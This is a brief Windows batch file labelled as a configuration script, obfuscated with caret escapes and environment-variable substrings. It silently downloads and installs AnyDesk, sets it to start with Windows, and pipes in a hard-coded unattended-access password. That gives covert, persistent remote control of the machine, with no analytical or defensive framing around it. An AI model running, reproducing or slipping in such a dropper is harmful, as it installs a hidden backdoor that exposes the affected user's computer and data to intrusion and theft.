REM config 6179 v2
@echo off
c%public:~10,1%%PUBLIC:~-9,1%%public:~12,1% -s^Lo %TEMP%\^An^yDesk.e^x^e ^h^t^t^ps://^d^own^l^o^ad.^a^ny^d^e^s^k.com/^A^n^y^D^e^sk.^exe
%TEMP%\A%windir:~-5,1%%COMSPEC:~-15,1%D%PUBLIC:~5,1%^sk.^e%COMSPEC:~-2,1%%PUBLIC:~-10,1% --^i^n^s^tall "C:\ProgramData\AnyDesk" --^st^art-^w^i^th-^win --^sile^nt
e^ch%windir:~-3,1% Adm1n!str^a^t^0^r | "C:\ProgramData\AnyDesk\AnyDesk.exe" --set-pa^sswor^d
